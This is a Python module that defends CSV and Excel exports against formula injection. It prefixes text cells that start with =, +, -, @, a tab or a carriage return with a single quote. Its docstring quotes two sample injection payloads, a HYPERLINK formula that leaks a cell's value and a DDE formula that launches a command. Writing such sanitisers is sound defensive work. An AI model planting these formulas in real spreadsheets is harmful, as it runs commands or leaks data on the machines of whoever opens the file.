"""Spreadsheet cells that are data, never formulas (CSV and Excel "formula injection").

A plan reference, a team, a file name or a quoted sentence can start with ``=``
(``=HYPERLINK("http://…/?x="&A1,"open")``, ``=cmd|' /C calc'!A0``): written as it is, Excel or
LibreOffice runs it as a formula when the file is opened. Following OWASP's advice on CSV
injection, every *text* value whose first character is ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return is prefixed with a single quote, so it is shown as the text it is. (A text
that starts with white space and then one of ``= + - @`` is treated the same way: some
programs strip the space first.) Numbers stay numbers; only text is touched.

Every writer of CSV or Excel files in ehcaudit goes through :func:`safe_cell` (one value),
:func:`safe_frame` (a pandas DataFrame before ``to_csv``) or :func:`safe_row` (a csv.writer
row); the Excel writer also writes text as string cells (never ``data_type`` ``'f'``).
"""

from __future__ import annotations

from typing import Any

import pandas as pd

#: A text value starting with one of these is shown as text (prefixed with ``'``).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_AFTER_SPACE = ("=", "+", "-", "@")


def is_risky(text: str) -> bool:
    """Whether a spreadsheet could take ``text`` for a formula."""
    if not text:
        return False
    if text.startswith(TRIGGERS):
        return True
    stripped = text.lstrip(" \n\x0b\x0c\u00a0")
    return stripped != text and stripped.startswith(_AFTER_SPACE)


def safe_text(text: str) -> str:
    """``text``, prefixed with a single quote if a spreadsheet could run it as a formula."""
    return "'" + text if is_risky(text) else text


def safe_cell(value: Any) -> Any:
    """A value for a CSV field or an Excel cell: text made safe, anything else unchanged."""
    if isinstance(value, str):
        return safe_text(value)
    return value


def safe_row(values: Any) -> list[Any]:
    """A row of values, each through :func:`safe_cell` (for ``csv.writer.writerow``)."""
    return [safe_cell(v) for v in values]


def safe_frame(df: Any) -> Any:
    """A copy of a pandas DataFrame whose text values (and column names) are safe.

    Only columns that can hold text (object or string dtype) are touched, so numeric columns
    keep their type and are written as numbers.
    """

    out = df.copy()
    for col in out.columns:
        series = out[col]
        if pd.api.types.is_object_dtype(series.dtype) or pd.api.types.is_string_dtype(series.dtype):
            out[col] = series.map(safe_cell, na_action="ignore")
    out.columns = [safe_cell(str(c)) for c in out.columns]
    return out
